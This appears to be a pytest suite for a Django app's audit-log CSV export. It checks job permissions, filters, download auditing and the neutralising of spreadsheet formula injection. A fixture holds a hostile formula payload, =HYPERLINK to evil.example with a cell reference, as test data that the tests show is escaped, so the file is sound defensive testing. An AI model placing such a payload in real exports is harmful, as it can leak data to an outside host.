"""The audit export as a background job: started from the page or the API, run by Celery (a real
worker when REDIS_URL is set, eagerly otherwise), private to who started it, its download audited."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from django.test import Client
from rest_framework.test import APIClient

from accounts.models import AuditEvent, Role
from jobs.csv import csv_bytes, csv_safe_cell, csv_safe_row
from jobs.models import Job, JobStatus

from .factories import MembershipFactory, SiteFactory, StudyFactory, UserFactory

pytestmark = pytest.mark.job

HEADER = ["time", "user", "action", "object_type", "object_id", "ip", "details"]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def world(run_jobs: Any) -> dict[str, Any]:
    """Committed data (transactional): a study with an admin, a lead and a few audit events."""
    admin = UserFactory(email="admin@example.org")
    lead = UserFactory(email="lead@example.org")
    study = StudyFactory(name="Export study", created_by=admin)
    other = StudyFactory(name="Other", created_by=lead)
    MembershipFactory(user=admin, study=study, role=Role.ADMIN)
    MembershipFactory(user=lead, study=study, role=Role.LEAD)
    MembershipFactory(user=lead, study=other, role=Role.ADMIN)
    site = SiteFactory(study=study, name="North")

    def ev(action: str, email: str = "admin@example.org", study_: Any = study, **details: Any) -> AuditEvent:
        return AuditEvent.objects.create(
            actor=admin if email == "admin@example.org" else None, actor_email=email, action=action,
            study=study_, object_type="accounts.site", object_id=str(site.pk), ip="10.0.0.1", details=details,
        )

    ev("membership.create", email="admin@example.org", role="coder")
    ev("membership.update", before={"role": "coder"}, after={"role": "lead"})
    ev("membership.delete", email=EVIL, name=EVIL)  # a hostile e-mail snapshot and detail
    ev("site.create", name="North")
    ev("membership.create", study_=other, name="not this study")
    clients = {}
    for name, user in (("admin", admin), ("lead", lead)):
        c = Client()
        c.force_login(user)
        clients[name] = c
    return {"study": study, "other": other, "admin": admin, "lead": lead, "clients": clients, "wait": run_jobs}


def _rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode()), "a BOM so spreadsheets read UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _download(client: Any, url: str) -> bytes:
    r = client.get(url)
    assert r.status_code == 200, r.content[:300]
    assert "attachment" in r["Content-Disposition"]
    return b"".join(r.streaming_content)


def test_export_from_the_page(world: dict[str, Any]) -> None:
    study, admin = world["study"], world["clients"]["admin"]
    r = admin.post(f"/studies/{study.pk}/audit/export/", {"action": "membership"})
    assert r.status_code == 302
    job_id = int(re.search(r"/jobs/(\d+)/$", r["Location"]).group(1))  # type: ignore[union-attr]
    job = world["wait"](job_id)
    assert job.status == JobStatus.DONE, job.error
    assert job.kind == "audit_export"
    assert job.result == {"rows": 3}
    assert job.params == {"filters": {"action": "membership"}}
    assert (job.progress_done, job.progress_total, job.percent) == (3, 3, 100)
    start = AuditEvent.objects.get(action="audit.export")
    assert (start.actor, start.study, start.object_id) == (world["admin"], study, str(job_id))

    html = admin.get(r["Location"]).content.decode()
    assert "Download the file" in html
    rows = _rows(_download(admin, f"/studies/{study.pk}/jobs/{job_id}/download/"))
    assert rows[0] == HEADER
    assert [row[2] for row in rows[1:]] == ["membership.delete", "membership.update", "membership.create"]
    evil_row = rows[1]
    # Formula injection is neutralised: the cell starts with an apostrophe, not "=".
    assert evil_row[1] == "'" + EVIL
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # The detail is kept as JSON text, which starts with "{" and so is never a formula.
    assert evil_row[6].startswith("{")
    assert json.loads(evil_row[6]) == {"name": EVIL}
    assert "not this study" not in "".join(",".join(r) for r in rows)

    download = AuditEvent.objects.get(action="export.download")
    assert (download.actor, download.study, download.object_id) == (world["admin"], study, str(job_id))
    assert download.details == {"kind": "audit_export"}


def test_export_with_date_and_user_filters(world: dict[str, Any]) -> None:
    study, admin = world["study"], world["clients"]["admin"]
    AuditEvent.objects.create(actor=world["lead"], actor_email="lead@example.org", action="site.update",
                              study=study, at="2020-06-01T12:00:00+00:00")
    r = admin.post(f"/studies/{study.pk}/audit/export/", {
        "actor": world["lead"].pk, "date_from": "2020-01-01", "date_to": "2020-12-31",
    })
    job_id = int(r["Location"].rstrip("/").rsplit("/", 1)[1])
    job = world["wait"](job_id)
    assert job.result == {"rows": 1}
    rows = _rows(_download(admin, f"/studies/{study.pk}/jobs/{job_id}/download/"))
    assert [(row[1], row[2]) for row in rows[1:]] == [("lead@example.org", "site.update")]


def test_export_through_the_api(world: dict[str, Any]) -> None:
    from rest_framework.authtoken.models import Token

    study = world["study"]
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=world['admin']).key}")
    r = api.post(f"/api/v1/studies/{study.pk}/audit-events/export/", {"action": "site.create"}, format="json")
    assert r.status_code == 202, r.content
    job_id = r.json()["id"]
    assert r.json()["status"] == "queued" or r.json()["status"] in ("running", "done")
    assert world["wait"](job_id).result == {"rows": 1}
    body = api.get(f"/api/v1/studies/{study.pk}/jobs/{job_id}/").json()
    assert body["status"] == "done"
    assert body["percent"] == 100
    assert body["download_url"] == f"/api/v1/studies/{study.pk}/jobs/{job_id}/download/"
    rows = _rows(_download(api, body["download_url"]))
    assert [row[2] for row in rows[1:]] == ["site.create"]
    assert AuditEvent.objects.filter(action="export.download", actor=world["admin"]).count() == 1


def test_api_export_rejects_bad_filters(world: dict[str, Any]) -> None:
    from rest_framework.authtoken.models import Token

    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=world['admin']).key}")
    n = Job.objects.count()
    r = api.post(f"/api/v1/studies/{world['study'].pk}/audit-events/export/", {"date_from": "soon"}, format="json")
    assert r.status_code == 400
    assert "date_from" in r.json()
    assert Job.objects.count() == n


def test_another_user_cannot_see_or_download_the_job(world: dict[str, Any]) -> None:
    study, admin, lead = world["study"], world["clients"]["admin"], world["clients"]["lead"]
    r = admin.post(f"/studies/{study.pk}/audit/export/", {})
    job_id = int(r["Location"].rstrip("/").rsplit("/", 1)[1])
    assert world["wait"](job_id).status == JobStatus.DONE
    n = AuditEvent.objects.filter(action="export.download").count()
    assert lead.get(f"/studies/{study.pk}/jobs/{job_id}/").status_code == 404
    assert lead.get(f"/studies/{study.pk}/jobs/{job_id}/download/").status_code == 404
    assert lead.get(f"/api/v1/studies/{study.pk}/jobs/{job_id}/").status_code == 404
    assert lead.get(f"/api/v1/studies/{study.pk}/jobs/{job_id}/download/").status_code == 404
    # Nor through a study the lead administers.
    assert lead.get(f"/studies/{world['other'].pk}/jobs/{job_id}/").status_code == 404
    assert AuditEvent.objects.filter(action="export.download").count() == n
    # And a lead cannot start one.
    assert lead.post(f"/studies/{study.pk}/audit/export/", {}).status_code == 403


def test_unfiltered_export_includes_its_own_start_event(world: dict[str, Any]) -> None:
    study, admin = world["study"], world["clients"]["admin"]
    r = admin.post(f"/studies/{study.pk}/audit/export/", {})
    job = world["wait"](int(r["Location"].rstrip("/").rsplit("/", 1)[1]))
    # Four events + the audit.export that started it + the sign-ins of the study's members.
    from accounts.models import AuditEvent, Membership

    members = set(Membership.objects.filter(study=study).values_list("user_id", flat=True))
    expected = [
        e for e in AuditEvent.objects.all()
        if e.study_id == study.pk or (e.study_id is None and e.action.startswith("auth.") and e.actor_id in members)
    ]
    assert sum(e.action == "audit.export" for e in expected) == 1
    assert job.result == {"rows": len(expected)}


# The CSV writer itself -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=x", "'\t=x"), ("plain", "plain"), ("", ""), (42, 42), (None, None), ("a=b", "a=b"),
    ],
)
def test_csv_safe_cell(value: Any, expected: Any) -> None:
    assert csv_safe_cell(value) == expected
    assert csv_safe_row([value, value]) == [expected, expected]  # the inlined row form agrees


def test_csv_safe_row_agrees_with_the_cell_rule_on_every_first_character() -> None:
    values = [chr(c) + "x" for c in range(0, 0x250)] + ["\n=a", "\r", "", "😀=", 3.5, None, True]
    assert csv_safe_row(values) == [csv_safe_cell(v) for v in values]


def test_csv_bytes_has_bom_and_crlf() -> None:
    out = csv_bytes(["a", "b"], [["=x", "é"]])
    assert out == "\ufeffa,b\r\n'=x,é\r\n".encode()


def test_a_job_is_hidden_once_its_creator_loses_the_permission(cast, clients, api):
    """An admin demoted to coder can no longer see or download an audit export they started."""
    from accounts.models import Membership, Role
    from jobs.models import Job, JobStatus
    from jobs.services import job_attach_file

    coder = cast.users["coder"]
    job = Job.objects.create(
        study=cast.study, kind="audit_export", created_by=coder, status=JobStatus.DONE,
        required_perm="audit.view",
    )
    job_attach_file(job=job, name="audit.csv", content=b"time,user\r\n")
    base = f"/studies/{cast.study.pk}/jobs/{job.pk}/"
    assert clients["coder"].get(base).status_code == 404
    assert clients["coder"].get(base + "download/").status_code == 404
    assert api["coder"].get(f"/api/v1/studies/{cast.study.pk}/jobs/{job.pk}/").status_code == 404
    Membership.objects.filter(user=coder, study=cast.study).update(role=Role.ADMIN)
    assert clients["coder"].get(base).status_code == 200
    assert clients["coder"].get(base + "download/").status_code == 200
